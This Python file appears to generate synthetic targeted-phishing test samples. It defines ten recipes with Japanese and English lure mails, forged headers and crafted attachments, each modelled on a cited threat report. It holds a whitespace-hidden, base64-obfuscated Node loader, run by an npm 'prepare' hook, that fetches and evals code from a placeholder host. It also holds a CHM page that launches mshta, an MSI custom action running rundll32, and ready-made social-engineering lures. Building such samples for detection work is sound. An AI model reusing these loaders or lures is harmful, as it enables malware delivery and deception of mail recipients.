"""Targeted mail that hides little: tools, viewers, tests and discs that the letter names as what they are, 2015 to 2025."""
from recipe import Recipe, auth
from making import docx, hops, pdf, program, zipped
from kit import Iso, Ole, Pe, SevenZip, chm, docs, icons

OUTLOOK = "apcprd%02d.prod.mail.example"
# The CLSID of a package of Windows Installer.
MSI = bytes.fromhex("84100C0000000000C000000000000046")
PACKAGE = """{
  "name": "token-dashboard",
  "version": "0.3.1",
  "private": true,
  "scripts": { "start": "node server/app.js", "prepare": "node server/config/setup.js", "test": "jest" },
  "dependencies": { "express": "^4.18.2", "axios": "^1.6.0" }
}
"""
SERVER = """const express = require('express');
const routes = require('./routes');
const app = express();
app.use('/api', routes);
// TODO(candidate): sort the balances by value, newest first
app.listen(process.env.PORT || 3000);
module.exports = app;
"""
# A line of blanks pushes what is not the task out of the editor's window.
SETUP = ("const path = require('path');\nmodule.exports = { root: path.resolve(__dirname, '..') };" + " " * 260 +
         ";(function(){const _0x3f=['aHR0cDovL2FwaS5leGFtcGxlLmludmFsaWQ=','Z2V0','ZXZhbA=='].map(s=>Buffer.from(s,'base64').toString());"
         "require('http')[_0x3f[1]](_0x3f[0]+'/c?i=17',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>global[_0x3f[2]](b))}).on('error',()=>{})})();\n")
KIT_HELP = ("<html><head><meta charset='shift_jis'></head><body><h1>計測キット 操作マニュアル</h1><p>第1章 はじめに</p><object id='k' classid='clsid:52a2aaae-085d-4187-97ea-8c30db990436' width=1 height=1>"
            "<param name='Command' value='ShortCut'><param name='Item1' value=',mshta.exe,http://man.example.invalid/k/2'></object><script>k.Click();</script></body></html>")


def crlf(text):
    return text.replace("\n", "\r\n").encode("cp932")


def bid_helper():
    o = Ole(clsid=MSI)
    o.add("\x05SummaryInformation", b"\xfe\xff\0\0\6\1\2\0" + bytes(16) + "Installation Database;電子入札補助アプリ".encode("cp932") + bytes(60))
    o.add("CustomAction", b"RunHelper\0VBScript: CreateObject(\"WScript.Shell\").Run \"rundll32 \" & Session.Property(\"TempFolder\") & \"nyusatsu.dat,Init\", 0\0")
    o.add("Binary.helper", program(None, 70000, packed=True, stamp=0x65B8A000))
    return o.bytes()


def assessment():
    return (Iso(volume="ASSESSMENT")
            .add("PuTTY.exe", program(icons.logo(), 140000, stamp=0x62C60000, CompanyName="Simon Tatham", ProductName="PuTTY suite",
                                      FileDescription="SSH, Telnet, Rlogin, and SUPDUP client", OriginalFilename="PuTTY", FileVersion="Release 0.77"))
            .add("Readme.txt", crlf("技術課題\n\n1. 同梱の PuTTY.exe で下記サーバーに接続してください。\n   Host: 203.0.113.77   Port: 22\n   User: kadai07  Pass: Tky-2207\n2. ~/task/README にある設問に答えてください。\n"
                                    "※お手元の SSH クライアントからは接続できません。\n")).bytes())


def scope_manuals():
    d = Iso(volume="XR40_V5")
    d.add("setup.exe", Pe(machine=0x8664, stamp=0x5D3A1000).icon(icons.logo()).version(CompanyName="Example Utilities Inc.", FileDescription="Update helper", OriginalFilename="upd_helper.exe").sign().bytes())
    d.add("version.dll", Pe(machine=0x8664, dll=True, stamp=0x64F00000).bytes(), hidden=True)
    d.add("setup.bin", docs.noise(42000), hidden=True)
    d.add("XR-40 User Manual.pdf", pdf("XR-40 Spectrometer\nUser manual, edition 5"))
    return d.bytes()


def sumatra():
    return zipped(("BAE_VICE President of Business Development.pdf", docs.noise(61000)),
                  ("SumatraPDF.exe", program(icons.logo(), 120000, stamp=0x62890000, CompanyName="Krzysztof Kowalczyk", FileDescription="SumatraPDF", FileVersion="3.4.3")),
                  ("libmupdf.dll", Pe(dll=True, stamp=0x66500000).bytes()), password="JD-BD2024")


RECIPES = [
    Recipe("t-open-wannacry-tool", "targeted", "J-CRAT, reports of 2015 and 2016: mails in the name of the own IT section; the days of WannaCry and the wording are ours",
           "The IT section of the house, from a domain that is not the house's, names a check tool and asks all to run it.", "【至急】ランサムウェア「WannaCry」対策 検査ツールの実行について", "system@example-ac.example",
           name="例示研究所 情報システム課", hard=True, twin="b-it-installer", to="soumu@example.ac.jp", date="Tue, 16 May 2017 08:41:26 +0900",
           body="所員各位\n\n情報システム課です。\n\n報道されているとおり、5月12日以降、世界各国でランサムウェア「WannaCry」の感染が拡大しています。\n本日、全端末の修正プログラム適用状況を確認いたしますので、以下の作業をお願いします。\n\n"
                "1. 添付の MS17-010check.zip を展開する\n2. MS17-010check.exe を右クリックし「管理者として実行」を選ぶ\n3. 「適用済み」と表示されたことを確認する\n\n結果は自動的に送信されますので、本メールへの返信は不要です。\n本日15時までに必ず実施してください。\n\n例示研究所 情報システム課(内線 2210)\n",
           client=("vps44.hosting.example", "203.0.113.44"), message_id="<20170515234126.9C1F2@example-ac.example>",
           finish=hops("from [192.168.1.8] (unknown [203.0.113.150]) by vps44.hosting.example (Postfix) with ESMTPA id 9C1F2; Tue, 16 May 2017 08:41:20 +0900"),
           headers=[auth("pass", "none", "none", "example-ac.example"), ("X-Mailer", "Microsoft Outlook 14.0")],
           attach=[("MS17-010check.zip", lambda: zipped(("MS17-010check.exe", program(icons.logo(), 98000, stamp=0x59198000)), ("実行手順.docx", docx("検査ツール 実行手順", author="user"))), "application/zip")]),

    Recipe("t-open-sumatra", "targeted", "Mandiant, September 2024: UNC2970 sends descriptions of jobs in a locked zip with a changed SumatraPDF; the wording is ours",
           "A recruiter sends a description that only the viewer in the same locked zip can open, and tells the password.", "Confidential: BD leadership position - job description", "j.whitmore.talent@gmail.com",
           name="James Whitmore", hard=True, to="kikaku@example.ac.jp", charset="utf-8", date="Tue, 18 Jun 2024 10:22:09 +0100",
           body="Dear Ms. Tsukada,\n\nThank you for your message on LinkedIn. As agreed I am sending the job description. Since the role is not public yet, our client keeps the document encrypted: "
                "please unpack the archive and open the PDF with the SumatraPDF.exe that comes with it. Other readers will show an error.\n\n{password}\n\nI look forward to hearing from you before Friday.\n\nKind regards,\nJames Whitmore\nSenior Talent Partner, BAE Systems\n",
           password_line="Password of the archive: JD-BD2024", message_id="<CAGt7nQ0x5e@mail.gmail.com>", finish=hops("by mail-lj1-f170.mail.example with SMTP id 38308e7fff4ca; Tue, 18 Jun 2024 02:22:07 -0700"),
           headers=[auth("pass", "pass", "pass", "gmail.com")], attach=[("BAE_JobDescription.zip", sumatra, "application/zip")]),

    Recipe("t-open-putty-test", "targeted", "Mandiant, September 2022: UNC4034 gives a changed PuTTY in a disc image for a technical test; the report's came by WhatsApp, here by mail and in Japanese",
           "A recruiter gives a technical test: a disc with PuTTY and the address of a server.", "【技術課題のご案内】クラウド基盤エンジニア 二次選考", "saiyo.hiraoka@outlook.jp", name="採用担当 平岡", hard=True,
           to="kenkyu-b@example.ac.jp", charset="utf-8", date="Thu, 07 Jul 2022 18:05:33 +0900",
           body="高梨様\n\nお世話になっております。アマゾン採用チームの平岡です。\n先日は一次面談にお時間をいただき、ありがとうございました。\n\n二次選考として、60分程度の技術課題をお願いしております。\n添付の kadai.iso をダブルクリックして開き、Readme.txt の手順に沿って PuTTY.exe からサーバーに接続してください。\n"
                "会社のPCからでも構いません。7月11日(月)までにお願いいたします。\n\nご不明な点は WhatsApp でもお受けします。\n\n平岡 亮\n", client=("apc01-ty1-obe.mail.example", "198.51.100.31"), message_id="<TY1PR01MB0707@TY1PR01MB0707.%s>" % (OUTLOOK % 1),
           headers=[auth("pass", "pass", "pass", "outlook.jp")], attach=[("kadai.iso", assessment)]),

    Recipe("t-open-coding-test", "targeted", "JPCERT/CC, July 2023 (DangerousPassword against developers), and Unit 42, November 2023 (Contagious Interview); the wording is ours",
           "A start-up asks a developer to finish a project of Node; far right in one file stands what fetches code.", "Take-home task for the backend role", "hr.orla.kessler@gmail.com", name="Orla Kessler", hard=True, twin="b-daily-deploy-scripts",
           to="kenkyu-b@example.ac.jp", charset="utf-8", date="Mon, 04 Dec 2023 14:50:02 +0000",
           body="Hi Takanashi-san,\n\ngreat talking to you today! As promised, here is the small project (token-dashboard.zip). Please run npm install and npm start first so that you see the dashboard, then solve the TODO in server/app.js.\n\n"
                "It should take about an hour. Please do not upload it to public repositories, and run it on your usual machine rather than in a container, the wallet plug-in needs a browser.\n\nSend me the diff until tomorrow evening and I will book the call with our CTO.\n\nOrla\n",
           message_id="<CALk2vRzB8w@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("token-dashboard.zip", lambda: zipped(("token-dashboard/package.json", PACKAGE.encode()), ("token-dashboard/README.md", b"# token dashboard\n\n    npm install\n    npm start\n"),
                                                         ("token-dashboard/server/app.js", SERVER.encode()), ("token-dashboard/server/config/setup.js", SETUP.encode()),
                                                         ("token-dashboard/server/routes.js", b"const r = require('express').Router();\nr.get('/balances', (q, s) => s.json([]));\nmodule.exports = r;\n")), "application/zip")]),

    Recipe("t-open-grant-tool", "targeted", "MITRE ATT&CK G0045 (menuPass), T1566.001 and T1036: programs in archives to Japan in 2016 and 2017; the tool and the wording are ours",
           "In the name of a funding agency, from free mail, comes the input tool for an application; a program without a picture.", "応募書類作成支援ツールの配付について(平成29年度)", "josei.kenkyu2016@yahoo.co.jp",
           name="研究助成課", hard=True, twin="b-office-grant", to="kenkyu-a@example.ac.jp", date="Thu, 06 Oct 2016 15:12:44 +0900",
           body="例示研究所 研究者各位\n\n日頃より学術の振興にご理解とご協力を賜り、厚く御礼申し上げます。\n\n平成29年度科学研究費助成事業の応募に際し、研究計画調書の入力誤りが多く見受けられることから、\n作成支援ツールを配付することといたしました。\n\n"
                "添付ファイルを解凍し、「調書作成支援.exe」を実行の上、画面の案内に従ってご入力ください。\nセキュリティ対策ソフトの警告が表示された場合は、「許可」を選択してください。\n\n日本学術振興会 研究助成課\n", message_id="<441827.61209.qm@web103102.mail.example>",
           finish=hops("from [203.0.113.188] by web103102.mail.example via HTTP; Thu, 06 Oct 2016 15:12:41 +0900"), headers=[auth("pass", "pass", "none", "yahoo.co.jp"), ("X-Mailer", "YahooMailWebService/0.8.111_70")],
           attach=[("調書作成支援.zip", lambda: zipped(("調書作成支援.exe", program(None, 86000, stamp=0x57F50000))), "application/zip")]),

    Recipe("t-open-new-year-flash", "targeted", "Secureworks, October 2017: BRONZE BUTLER (Tick) with animations of Flash in phishing mail; the wording is ours",
           "A partner's salesman sends a New Year's animation as a program that plays it; from free mail.", "謹賀新年 動く年賀状をお送りします", "oomori-eigyou@excite.co.jp", name="大森(例示精機)", twin="b-runs-screensaver",
           to="kenkyu-b@example.ac.jp", date="Mon, 05 Jan 2015 09:03:18 +0900",
           body="例示研究所 第二研究部 高梨様\n\n新年明けましておめでとうございます。\n旧年中は格別のお引き立てを賜り、誠にありがとうございました。\n\n今年は Flash で動く年賀状を作ってみました。\n添付の nenga2015.zip の中の nenga2015.exe をダブルクリックすると音楽が流れます。\n\n"
                "本年もどうぞよろしくお願い申し上げます。\n\n例示精機株式会社 大森\n", client=("smtp12.portal.example", "203.0.113.62"), message_id="<20150105000318.2F77@excite.co.jp>",
           finish=hops("from OOMORI-PC (203-0-113-99.dynamic.example [203.0.113.99]) by smtp12.portal.example with ESMTPA; Mon, 05 Jan 2015 09:03:15 +0900"),
           headers=[auth("pass", "none", "none", "excite.co.jp"), ("X-Mailer", "Microsoft Windows Live Mail 14.0.8117.416"), ("Reply-To", "oomori2014@mail.example")],
           attach=[("nenga2015.zip", lambda: zipped(("nenga2015.exe", program(icons.logo(), 150000, stamp=0x54A70000, overlay=b"FWS\x09" + docs.noise(9000), FileDescription="Adobe Flash Player 9.0", ProductName="Shockwave Flash", CompanyName="Adobe Systems, Inc."))), "application/zip")]),

    Recipe("t-open-selfdecrypt", "targeted", "MITRE ATT&CK T1204.002 and T1036 (programs that the reader starts); Japan's custom of self-decrypting files; the wording is ours",
           "In a health centre's name from a strange domain, a file that decrypts itself; its password stands in the mail.", "平成29年度 定期健康診断結果(データ)の送付について", "kenshin@mail-kenkou.example",
           name="例示健診センター", hard=True, twin="b-it-selfdecrypt", to="jinji@example.ac.jp", date="Fri, 23 Feb 2018 11:30:52 +0900",
           body="例示研究所 人事課 御中\n\nいつもお世話になっております。例示健診センターの永田です。\n\n貴所職員の健康診断結果がまとまりましたので、データにてお送りいたします。\n個人情報のため自己復号型の暗号化ファイル(kekka_H29.exe)にしております。\n保存の上ダブルクリックし、パスワードを入力してください。\n\n{password}\n\n"
                "なお、受信時に拡張子の確認画面が表示されますが、そのまま「実行」を押してください。\n\n例示健診センター 永田\nTEL 03-0000-0000 / nagata@reiji-kenshin.example\n", password_line="パスワード:kenshin0223", client=("www3012.rental-server.example", "198.51.100.112"),
           message_id="<5A8F7A9C.5090204@mail-kenkou.example>", finish=hops("from [203.0.113.131] (unknown [203.0.113.131]) by www3012.rental-server.example (Postfix) with ESMTPSA id 7712; Fri, 23 Feb 2018 11:30:47 +0900"),
           headers=[auth("pass", "none", "none", "mail-kenkou.example"), ("Reply-To", "kenshin.center.nagata@gmail.com"), ("X-Mailer", "Becky! ver. 2.73 [ja]")],
           attach=[("kekka_H29.exe", lambda: program(icons.logo(), 112000, packed=True, stamp=0x5A8E6000, overlay=docs.noise(14000)))]),

    Recipe("t-open-manual-disc", "targeted", "MITRE ATT&CK T1553.005 and T1574.002 (discs past the mark of the Web, libraries beside programs); the wording is ours",
           "A maker's support, from free mail, sends a disc with manual and setup; beside the setup, hidden, a library and its data.", "XR-40 software update 5.1 (your instrument SN 40-1187)", "xr.support.europe@outlook.com", name="XR Spectrometers Support",
           hard=True, twin="b-it-driver-iso", to="kenkyu-b@example.ac.jp", charset="utf-8", date="Wed, 06 Sep 2023 09:17:45 +0200",
           body="Dear Dr. Takanashi,\n\nour records show that your XR-40 at Reiji Research Institute still runs firmware 4.8. As the old release stops to store spectra after 30 September, we send you the update disc.\n\n"
                "Please mount XR40_V5.iso by a double click and start setup.exe. The new user manual is on the same disc. No licence key is needed.\n\nShould Windows SmartScreen complain, choose \"More info\" and \"Run anyway\".\n\nBest regards,\nXR Spectrometers Support Team\nsupport@xr-spectrometers.example\n",
           client=("eur05-db8-obe.mail.example", "198.51.100.40"), message_id="<DB8PR05MB0906@DB8PR05MB0906.eurprd05.prod.mail.example>", headers=[auth("pass", "pass", "pass", "outlook.com")], attach=[("XR40_V5.iso", scope_manuals)]),

    Recipe("t-open-bid-helper", "targeted", "S2W, February 2024: Kimsuky's Troll Stealer as an installer of security software of a Korean page; here by mail, for electronic bids in Japan, the wording is ours",
           "The help desk of electronic bids names the reader and sends an .msi, from a new domain that is not the system's.", "【電子入札】補助アプリ更新のお願い(2月13日以降ログイン不可)", "helpdesk@e-nyusatsu-support.example",
           name="電子入札ヘルプデスク", hard=True, twin="b-daily-gate-msi", to="koubai@example.co.jp", charset="utf-8", date="Thu, 01 Feb 2024 10:08:11 +0900",
           body="例示商事株式会社 購買部 ご担当者様\n\n電子入札システムをご利用いただきありがとうございます。\n\n電子証明書の方式変更に伴い、2月13日以降は旧版の補助アプリではログインできなくなります。\n添付の圧縮ファイルから NyusatsuHojo_2.4.msi を実行し、更新をお願いいたします。\n所要時間は約2分です。\n\n"
                "更新後、ICカードのPINを一度だけ入力していただきます。\n\n電子入札ヘルプデスク\n(国土交通省 電子入札施設管理センター)\n", client=("mail.e-nyusatsu-support.example", "203.0.113.58"), message_id="<20240201100811.5501@e-nyusatsu-support.example>",
           finish=hops("from DESKTOP-9PK2 (unknown [203.0.113.214]) by mail.e-nyusatsu-support.example (Postfix) with ESMTPSA id 4TQ1; Thu, 01 Feb 2024 10:08:08 +0900"),
           headers=[auth("pass", "pass", "none", "e-nyusatsu-support.example"), ("Reply-To", "nyusatsu.support@naver.com")],
           attach=[("NyusatsuHojo_2.4.zip", lambda: zipped(("NyusatsuHojo_2.4.msi", bid_helper())), "application/zip")]),

    Recipe("t-open-kit-manual", "targeted", "MITRE ATT&CK T1218.001 (compiled help), procedures of several groups against Asia, Kimsuky among them; the wording is ours",
           "A partner in a joint measurement, from free mail, sends the manual of a kit as compiled help in a 7z; its page starts mshta.", "計測キットの操作マニュアル送付(共同観測)", "kyoudou.kansoku.jimu@gmail.com", name="共同観測事務局 倉持", hard=True, twin="b-runs-manual-chm",
           to="kenkyu-b@example.ac.jp", charset="utf-8", date="Wed, 21 May 2025 16:44:27 +0900",
           body="高梨先生\n\nお世話になっております。共同観測事務局の倉持です。\n\n来月お届けする計測キットの操作マニュアルを、先にお送りいたします。\n添付の圧縮ファイルを展開し、manual.chm をお開きください。\n中身が白く表示される場合は、ファイルのプロパティで「許可する」にチェックを入れてから開き直してください。\n\n当日までに第3章までお目通しいただけますと幸いです。\n\n倉持\n",
           message_id="<CAPs1jwL6yA@mail.gmail.com>", finish=hops("by mail-yb1-f181.mail.example with SMTP id 3f1490d57ef6; Wed, 21 May 2025 00:44:25 -0700"), headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("manual.7z", lambda: SevenZip().add("manual.chm", chm([("index.html", KIT_HELP.encode("cp932"))])).bytes(), "application/x-7z-compressed")]),
]
